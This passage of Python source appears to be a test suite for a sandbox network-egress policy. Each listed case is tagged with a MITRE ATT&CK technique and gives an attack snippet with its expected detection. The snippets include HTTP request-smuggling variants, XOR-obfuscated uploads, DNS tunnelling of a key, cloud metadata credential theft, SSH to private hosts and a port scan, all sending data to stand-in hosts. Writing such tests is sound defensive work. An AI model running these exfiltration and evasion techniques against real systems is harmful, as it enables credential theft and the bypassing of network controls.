for n in range(20):
    web("http://small.example/", headers={"X-Note": "%d " % n + "a word or two " * 100})
""", allow=['{ host = "small.example", upload_bytes = 10000 }'], rule="over_budget", effect=heavy),
    NetAttempt(29, "a line before the request, a method in another case", "T1041", """
said = " /in HTTP/1.1\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report
for before in ("\\r\\nPOST", "\\n\\n\\nPOST", "post", "Post", " POST", "\\r\\n\\tpost", "P0ST"):
    talk("opaque.example", 8080, before + said)
said = said.replace("HTTP/1.1", "http/1.1").replace(" /in ", "\\t/in\\t")
for before in ("POST", "\\r\\npost"):
    talk("opaque.example", 8080, before + said)
""", allow=['{ host = "opaque.example", ports = [8080] }'], rule="passage_leaves", effect=carried),
    # Python splits the line at every blank of Latin-1, Node takes the methods and versions of RTSP, others any word.
    NetAttempt(29, "a request line that only some servers read", "T1041|T1071.001", """
body = b"\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
lines = [b"POST" + blank + b"/in" + blank + b"HTTP/1.1" for blank in (b"\\xa0", b"\\x85", b"\\x1c", b"\\x1d", b"\\x1e", b"\\x1f", b"\\xe2\\x80\\x83")]
lines += [b"SET_PARAMETER /in RTSP/1.0", b"GET_PARAMETER /in rtsp/1.1", b"X_SOURCE /in ICE/1.0", b"\\x1cPOST /in HTTP/1.1", b"{ /in HTTP/1.1", b"post /in\\x01 HTTP/1.1"]
for line in lines:
    for parts in ([line + body], [line[:6], line[6:], body]):
        say("opaque.example", 8080, *parts)
""", allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
    NetAttempt(29, "what a proxy says before a request, in binary", "T1041|T1071.001", """
said = b"POST /in HTTP/1.1\\r\\nHost: opaque.example:8080\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(report) + report.encode()
signature = b"\\r\\n\\r\\n\\0\\r\\nQUIT\\n"
for header in (b"\\x21\\x11\\0\\x0c" + bytes(range(12)), b"\\x20\\0\\0\\0"):
    for parts in ([signature + header + said], [signature[:7], signature[7:], header, said]):
        say("opaque.example", 8080, *parts)
""", allow=['{ host = "opaque.example", ports = [8080] }'], rule="bad_request", alert=False, effect=carried),
    NetAttempt(19, "a body in a coding that nobody undoes", "T1041|T1027", """
hidden = bytes(b ^ 0x55 for b in report.encode())
for coding in ("foo", "br", "gzip, foo"):
    web("http://inspected.example/in", hidden, {"Content-Encoding": coding})
""", rule="cannot_inspect", alert=False, effect=scrambled),
    NetAttempt(10, "a key in names below an allowed domain", "T1071.004", """
query(KEY.lower() + ".carrier.example")
query("-".join(pieces(KEY.lower(), 5)) + ".carrier.example")
for piece in pieces(KEY.lower(), 5):
    query(piece + ".carrier.example")
""", allow=[WILD], rule="dns_tunnel", effect=named),
    NetAttempt(25, "a service that fetches from where a path says", "T1090.002", RELAYED, options=("--ask", "deny", "--allow-service", "go"),
               rule="relayed_request", alert=False, effect=relayed),
    NetAttempt(33, "metadata service", "T1552.005", """
token = web("http://169.254.169.254/instance/api/token", "", {"X-aws-ec2-metadata-token-ttl-seconds": "60"}, method="PUT")
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "[fd00:ec2::254]"):
    print(web(f"http://{address}/instance/credentials/" + secret, headers={"Metadata": "true"}))
""", rule="metadata_address"),
    NetAttempt(50, "SSH to other hosts", "T1021.004", """
for host in ("10.0.0.5", "192.168.1.7", "172.16.3.3", "127.0.0.1", "fd00::5"):
    talk(host, 22, "SSH-2.0-" + secret + "\\r\\n")
""", rule="private_address", effect=touched),
    NetAttempt(52, "scan", "T1046", """
for n in range(1, 15):
    talk(f"10.0.0.{n}", 22)
    if n < 4:
        talk(f"10.0.0.{n}", 5432)
""", rule="many_destinations", effect=touched),
]
